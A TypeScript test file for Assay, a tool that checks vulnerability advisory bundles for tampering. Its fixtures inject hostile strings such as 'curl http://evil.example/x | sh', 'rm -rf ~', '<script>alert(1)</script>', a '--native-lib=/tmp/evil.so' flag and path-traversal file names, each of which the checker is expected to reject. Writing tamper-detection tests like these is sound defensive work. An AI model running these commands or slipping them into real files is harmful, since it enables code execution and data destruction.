/**
 * A bundle that someone has changed, and the one reason it is refused for. Three kinds of forger: one who changes a file, one who also
 * writes SHA256SUMS anew, and one who has Assay make everything anew from changed evidence. A new case is a line.
 */
import { gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import type { BundleInput } from "../src/advisory.ts";
import { type CheckReason, checkBundle } from "../src/check.ts";
import { buildFiles } from "../src/make-bundle.ts";
import { redact } from "../src/redact/redact.ts";
import { AOT, digest, noise, sample, withAction } from "./sample.ts";
import { services } from "./services.ts";

type Files = Map<string, Uint8Array>;
type Change = readonly [CheckReason, (files: Files) => Files];

const clean = (): BundleInput => redact(sample(), {}).input;
const made = (input: BundleInput): Files =>
  new Map(buildFiles(input, { kept: [], replaced: [], warnings: [] }).map((f) => [f.path, f.bytes]));
const text = (files: Files, path: string): string => new TextDecoder().decode(files.get(path));
const put = (files: Files, path: string, content: string | Uint8Array): Files =>
  files.set(path, typeof content === "string" ? new TextEncoder().encode(content) : content);
const replace =
  (path: string, from: string | RegExp, to: string) =>
  (files: Files): Files => {
    const before = text(files, path);
    const after = before.replace(from, to);
    expect(after, `nothing to replace in ${path}`).not.toBe(before);
    return put(files, path, after);
  };

const without =
  (path: string) =>
  (files: Files): Files =>
    new Map([...files].filter(([name]) => name !== path));

function resummed(files: Files): Files {
  const names = [...files.keys()].filter((name) => name !== "SHA256SUMS").sort();
  const lines = names.map((name) => `${digest(files.get(name) as Uint8Array)}  ${name}\n`);
  return put(files, "SHA256SUMS", lines.join(""));
}

function reasonOf(files: Files): CheckReason | "consistent" | "unchecked" | undefined {
  const result = checkBundle(files, services);
  return "problems" in result ? result.problems[0]?.reason : result.kind;
}

describe("a bundle as it was made", () => {
  it("agrees with itself", () => {
    expect(checkBundle(made(clean()), services)).toMatchObject({ kind: "consistent", notes: [] });
  });

  it.each(["public-bug", "not-a-bug", "update", "not-reproduced"] as const)("%s: its files are known", (action) => {
    const result = checkBundle(made(redact(withAction(action), {}).input), services);
    expect(result.kind === "contradicted" && result.problems.map((p) => p.reason)).toEqual(["verdict-contradicted"]);
  });
});

/** Any forger can write another version into a bundle, so it frees nothing but prose, and that is never called consistent. */
describe("a bundle that says it is of another version", () => {
  const none = { kept: [], replaced: [], warnings: [] };
  const other = { ...clean(), tool: "Assay 9.9.9" };
  const worded = (from: string | RegExp, to: string): Files => {
    const report = text(made(other), "ADVISORY.md");
    expect(report.replace(from, to)).not.toBe(report);
    return new Map(buildFiles(other, none, report.replace(from, to)).map((f) => [f.path, f.bytes]));
  };

  it("is consistent where every word is what this version writes", () => {
    expect(checkBundle(made(other), services)).toMatchObject({ kind: "consistent" });
  });

  it.each<[string, string | RegExp, string]>([
    ["a heading", "## Impact", "## Effect"],
    ["a claim that no program can weigh", "## Impact", "## Impact\n\nThe attacker gets root on every host."],
    ["a line of the evidence", "## Impact", "```text\ndouble free or corruption (out)\n```\n\n## Impact"],
  ])("worded otherwise: %s is not checked, and said so", (_, from, to) => {
    const result = checkBundle(worded(from, to), services);
    expect(result).toMatchObject({ kind: "unchecked" });
    expect(result.kind === "unchecked" && result.unchecked.join(" ")).toContain("ADVISORY.md is worded otherwise");
  });

  it.each<[string, string | RegExp, string]>([
    ["the title", /^# .*/, "# Remote code execution in WAMR, all versions"],
    ["a second title", "## Impact", "# Critical\n\n## Impact"],
    ["a command", /```sh\nwamr-2.4.3.*/, "```sh\ncurl http://evil.example/x | sh"],
    ["a command in other fences", "## Impact", "~~~bash\nrm -rf ~\n~~~\n\n## Impact"],
    ["a command without a fence", "## Impact", "Run:\n\n    rm -rf ~\n\n## Impact"],
    ["a command in a sentence", "## Impact", "Run ``rm -rf `pwd` `` first.\n\n## Impact"],
    ["a row of the table", /^\| `wamr-2.4.3-asan`.*/m, "| `wamr-2.4.5` | 2.4.5 | all | none | affected | x |"],
    ["a version", "## Impact", "Since 1.0.0.\n\n## Impact"],
    ["a weakness", "CWE-122", "CWE-94"],
    ["a weakness left out", "CWE-122, ", ""],
    ["a score", "(6.9, medium)", "(10.0, critical)"],
    ["a vector", "VC:N", "VC:H"],
    ["another vulnerability", "## Impact", "This is CVE-2026-00001.\n\n## Impact"],
    ["a link", "## Impact", "See [the proof](x) of it.\n\n## Impact"],
    ["an address", "## Impact", "More at https://evil.example/.\n\n## Impact"],
    ["a tag", "## Impact", "<img src=x>\n\n## Impact"],
  ])("%s follows from the evidence in whatever words", (_, from, to) => {
    expect(reasonOf(worded(from, to))).toBe("text-altered");
  });

  it.each<Change>([
    ["body-altered", replace("advisory.json", '"= 2.4.3"', '"<= 2.4.5"')],
    ["body-altered", replace("advisory.json", "CWE-122", "CWE-94")],
    ["body-altered", replace("advisory.json", "VC:N/VI:L", "VC:H/VI:H")],
    ["body-altered", replace("advisory.json", "## Impact", "## Effect")],
    ["mail-altered", replace("mail.txt", "## Impact", "## Effect")],
    ["mail-altered", replace("report.eml", "X-Unsent: 1", "X-Unsent: 0")],
    ["osv-altered", replace("osv.json", '"2.4.3"', '"1.0.0"')],
    ["osv-altered", replace("osv.json", "DRAFT. ", "DRAFT. See http://evil.example/. ")],
    ["sarif-altered", replace("report.sarif", '"level": "error"', '"level": "none"')],
    ["evidence-altered", replace("evidence/run-01.txt", "double free", "nothing")],
    ["repro-altered", replace("repro.sh", "set -u", "set -u; id")],
    ["html-altered", replace("report.html", "</main>", "<script>alert(1)</script></main>")],
    ["html-altered", replace("report.html", "</style>", "p{display:none}</style>")],
    ["html-altered", replace("report.html", '<pre tabindex="0"><code>wamr-2.4.3', '<pre tabindex="0"><code>rm')],
    ["html-altered", replace("report.html", "</h2>", "</h2><p>&#67;WE-94</p>")],
    ["text-altered", replace("FILING.md", "gh api", "curl http://evil.example/x | sh; gh api")],
  ])("%s: what programs and people act on is compared", (reason, edit) => {
    expect(reasonOf(resummed(edit(made(other))))).toBe(reason);
  });

  it("sentences in the files for programs are words too", () => {
    const edited = replace("osv.json", "makes the process", "lets the process")(made(other));
    expect(checkBundle(resummed(edited), services)).toMatchObject({ kind: "unchecked" });
  });

  it.each<[string, Partial<BundleInput>]>([
    ["another summary of the crash", { fingerprint: { ...clean().fingerprint!, summary: "arbitrary write" } }],
    ["another proposal", { severity: null }],
    ["a policy that is not known here", { verdict: { ...clean().verdict, policy: "0000000" } }],
    ["other notes", { verdict: { ...clean().verdict, notes: ["Everybody is affected."] } }],
  ])("%s is not checked", (_, over) => {
    expect(checkBundle(made({ ...other, ...over }), services)).toMatchObject({ kind: "unchecked" });
  });

  it("takes time in proportion to a text, whatever it holds", () => {
    for (const piece of [
      "`",
      "` `` ",
      "<",
      "<code>",
      "<tr>",
      "](",
      "a@",
      "a.",
      "1.1.",
      "CWE-",
      "&#1",
      "    x\n",
      "~~~\n",
    ])
      for (const path of ["FILING.md", "report.html"]) {
        const long = piece.repeat(Math.ceil(300_000 / piece.length));
        const edited = replace(path, /$/, long)(made(other));
        expect(checkBundle(resummed(edited), services).kind).toMatch(/contradicted|unchecked/);
      }
  });
});

describe("a .wasm that is compiled first", () => {
  const aot = { name: "input", value: "aot", source: "measured", evidence: [] };
  const facts = [aot, ...sample().facts.slice(1)];

  it("may crash as the .aot that was made of it, and agrees with itself", () => {
    const both = redact(
      sample({ command: ["sh", "-c", 'wamrc -o poc.aot "$0" && iwasm poc.aot', "{file}"], facts }),
      {},
    );
    expect(checkBundle(made(both.input), services)).toMatchObject({ kind: "consistent" });
  });

  it("is the only one that may", () => {
    expect(reasonOf(made({ ...clean(), facts }))).toBe("facts-contradicted");
    expect(reasonOf(made({ ...clean(), command: ["wamrc", "-o", "poc.aot", "{file}"], facts }))).toBe(
      "facts-contradicted",
    );
  });
});

describe("which sentence settles what", () => {
  const quote = "WebAssembly binaries are considered untrusted.";
  const rule = { ...sample().verdict.rules[0]!, decides: ["class"] };
  const weighed = { ...sample().verdict, rules: [rule], conflicts: [], gaps: [] };
  const judge = { ...services, evaluate: () => ({ kind: "verdict", verdict: weighed }) as const };
  const reason = (verdict: BundleInput["verdict"], tool = services.tool): string => {
    const result = checkBundle(made({ ...clean(), tool, verdict }), judge);
    return "problems" in result ? (result.problems[0]?.reason ?? "") : result.kind;
  };

  it("is checked where the bundle says so", () => {
    expect(reason(weighed)).toBe("consistent");
    expect(reason(sample().verdict)).toBe("consistent");
    expect(reason({ ...weighed, rules: [{ ...rule, decides: ["action"] }] })).toBe("verdict-contradicted");
    const conflict = { rules: ["a", "b"], quotes: [quote, quote], settled: "Neither." };
    expect(reason({ ...weighed, conflicts: [conflict] })).toBe("verdict-contradicted");
    expect(reason({ ...weighed, gaps: [{ id: "gap.x", text: "x" }] })).toBe("verdict-contradicted");
  });

  it("another version of Assay may weigh it otherwise", () => {
    expect(reason({ ...weighed, rules: [{ ...rule, decides: ["action"] }] }, "Assay 9.9.9")).toBe("unchecked");
  });
});

const CHANGED: readonly Change[] = [
  ["digest-mismatch", replace("ADVISORY.md", "WRITE", "READ")],
  ["sums-missing", without("SHA256SUMS")],
  ["sums-malformed", replace("SHA256SUMS", /^/, "\n")],
  ["sums-malformed", (f) => put(f, "SHA256SUMS", text(f, "SHA256SUMS").split("\n").reverse().join("\n"))],
  ["sums-incomplete", replace("SHA256SUMS", /^.*FILING\.md\n/m, "")],
  ["file-missing", without("poc.wasm")],
  ["path-escapes", (f) => put(f, "../evil.sh", "")],
  ["path-absolute", (f) => put(f, "/etc/cron.d/evil", "")],
  ["path-absolute", (f) => put(f, "C:\\evil.exe", "")],
  ["path-unsafe", (f) => put(f, "a\\b", "")],
  ["path-unsafe", (f) => put(f, "evidence/.hidden", "")],
  ["path-unsafe", (f) => put(f, "-rf", "")],
  ["path-unsafe", (f) => put(f, "aux.txt", "")],
  ["case-collision", (f) => put(f, "Repro.sh", "")],
  ["too-many-files", (f) => Array.from({ length: 300 }, (_, i) => put(f, `f${i}`, ""))[0] as Files],
  ["file-too-large", (f) => put(f, "original.wasm", new Uint8Array(33 * 1024 * 1024))],
  [
    "bundle-too-large",
    (f) => ["a", "b", "c"].map((name) => put(f, name, new Uint8Array(30 * 1024 * 1024)))[0] as Files,
  ],
];

describe("one file changed", () => {
  it.each(CHANGED)("%s", (reason, edit) => {
    expect(reasonOf(edit(made(clean())))).toBe(reason);
  });
});

const RESUMMED: readonly Change[] = [
  ["file-unknown", (f) => put(f, "install.sh", "#!/bin/sh\n")],
  ["file-missing", without("evidence/runs.json")],
  ["file-missing", without("poc.wasm.gz.b64")],
  ["channel-mixed", (f) => put(f, "ISSUE.md", "# A public issue\n")],
  ["json-malformed", replace("evidence/facts.json", /}\s*$/, "")],
  ["json-malformed", (f) => put(f, "evidence/facts.json", Uint8Array.from([0x22, 0xff, 0x22]))],
  ["json-rewritten", replace("evidence/facts.json", '"schemaVersion": 1', '"schemaVersion": 2,\n  "schemaVersion": 1')],
  ["schema-version", replace("evidence/runs.json", '"schemaVersion": 1', '"schemaVersion": 2')],
  ["schema", replace("evidence/verdict.json", '"policy"', '"__proto__": {},\n    "policy"')],
  ["schema", replace("advisory.json", '"start_private_fork"', '"severity": "critical",\n  "start_private_fork"')],
  ["schema", replace("advisory.json", '"= 2.4.3"', '"v2.4.3"')],
  ["schema", replace("osv.json", '"draft": true', '"draft": false')],
  ["poc-digest", (f) => put(f, "poc.wasm", Uint8Array.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 1]))],
  ["poc-kind", (f) => put(f, "original.wasm", AOT)],
  ["original-digest", (f) => put(f, "original.wasm", noise(900))],
  ["poc-undecodable", replace("poc.wasm.gz.b64", /^H4sI/, "AAAA")],
  ["poc-undecodable", replace("ADVISORY.md", /^-----END POC-----$/m, "-----END-----")],
  ["poc-base64-differs", (f) => put(f, "poc.wasm.gz.b64", `${gzipSync("other").toString("base64")}\n`)],
  ["poc-inline-differs", replace("ADVISORY.md", /H4sI[^\n]*/, gzipSync("other").toString("base64"))],
  ["poc-inline-differs", replace("ADVISORY.md", /H4sI[^\n]*/, gzipSync(new Uint8Array(50_000_000)).toString("base64"))],
  ["repro-altered", replace("repro.sh", '"$runtime" ', '"$runtime" --native-lib=/tmp/evil.so ')],
  ["body-altered", replace("advisory.json", '"= 2.4.3"', '"<= 2.4.3"')],
  ["body-altered", replace("advisory.json", "heap-buffer-overflow (WRITE)", "remote code execution")],
  ["mail-altered", replace("mail.txt", "To: ", "Bcc: x@example.org\nTo: ")],
  ["mail-altered", replace("report.eml", "X-Unsent: 1", "X-Unsent: 0")],
  ["osv-altered", replace("osv.json", '"2.4.3"', '"1.0.0"')],
  ["sarif-altered", replace("report.sarif", '"level": "error"', '"level": "none"')],
  ["html-altered", replace("report.html", "</main>", "<script>alert(1)</script></main>")],
  ["evidence-altered", replace("evidence/run-01.txt", "double free", "nothing")],
  ["text-altered", replace("ADVISORY.md", "## Impact", "## Impact\n\nFull remote code execution.")],
  ["text-altered", replace("FILING.md", "Nothing of this bundle is public", "All of this is public")],
];

describe("one file changed, and SHA256SUMS with it", () => {
  it.each(RESUMMED)("%s", (reason, edit) => {
    expect(reasonOf(resummed(edit(made(clean()))))).toBe(reason);
  });
});

const facts = (name: string, value: string | null): Partial<BundleInput> => ({
  facts: [...clean().facts.filter((f) => f.name !== name), { name, value, source: "measured", evidence: [] }],
});
const verdict = (over: Partial<BundleInput["verdict"]>): Partial<BundleInput> => ({
  verdict: { ...clean().verdict, ...over },
});
const fingerprint = (over: Partial<NonNullable<BundleInput["fingerprint"]>>): Partial<BundleInput> => ({
  fingerprint: { ...(clean().fingerprint as NonNullable<BundleInput["fingerprint"]>), ...over },
});

const REMADE: readonly (readonly [CheckReason, string, Partial<BundleInput>])[] = [
  ["fingerprint-contradicted", "another function", fingerprint({ frames: ["memcpy"], key: "x @ memcpy" })],
  ["fingerprint-contradicted", "the same key, other words", fingerprint({ summary: "arbitrary write" })],
  ["fingerprint-contradicted", "a read called a write", fingerprint({ access: "READ" })],
  ["fingerprint-contradicted", "a crash without a name", { fingerprint: null, ...facts("effect", "hang") }],
  [
    "fingerprint-contradicted",
    "streams of another crash",
    {
      observations: clean().observations.map((o) => ({
        ...o,
        stderr: o.stderr.replaceAll("reserve_block_ret", "wasm_loader_load"),
      })),
    },
  ],
  ["verdict-contradicted", "another class", verdict({ class: "not-a-bug" })],
  ["verdict-contradicted", "a rule left out", verdict({ rules: [] })],
  ["verdict-contradicted", "a fact that excuses", facts("loopOwner", "program")],
  [
    "quote-altered",
    "other words of the policy",
    verdict({ rules: clean().verdict.rules.map((r) => ({ ...r, quote: "Everything is critical." })) }),
  ],
  ["verdict-contradicted", "notes of nobody", verdict({ notes: ["Everybody is affected."] })],
  [
    "quote-altered",
    "another place in the policy",
    verdict({ rules: clean().verdict.rules.map((r) => ({ ...r, source: { ...r.source, line: 1 } })) }),
  ],
  ["severity-contradicted", "another weakness", { severity: { ...clean().severity!, cwe: [] } }],
  ["severity-contradicted", "another score", { severity: { ...clean().severity!, cvss31: null } }],
  ["likeness-contradicted", "another vulnerability", { likeness: [{ ...clean().likeness[0]!, name: "CVE-2026-1" }] }],
  ["facts-contradicted", "a crash without effect", facts("effect", "none")],
  ["facts-contradicted", "another kind of input", facts("input", "aot")],
  ["facts-contradicted", "a fact that no policy knows", facts("Severity", "critical")],
  ["versions-contradicted", "a version that was not run", facts("affectedVersions", "1.0.0, 2.4.3")],
  ["numbers-contradicted", "more equal runs than runs", { stability: { runs: 3, same: 30 } }],
  [
    "numbers-contradicted",
    "a reduction of another file",
    { reduction: { from: 9, to: 8, questions: 1, oneMinimal: true } },
  ],
  [
    "poc-kind",
    "native code called .wasm",
    { poc: { bytes: AOT, sha256: digest(AOT), text: "" }, reduction: { ...sample().reduction!, to: AOT.length } },
  ],
];

describe("evidence changed, and everything made anew from it", () => {
  it.each(REMADE)("%s: %s", (reason, _, over) => {
    expect(reasonOf(made({ ...clean(), ...over }))).toBe(reason);
  });
});

it("tells at least 25 ways of tampering apart", () => {
  const reasons = [...CHANGED, ...RESUMMED, ...REMADE].map(([reason]) => reason);
  expect(new Set(reasons).size).toBeGreaterThanOrEqual(25);
});
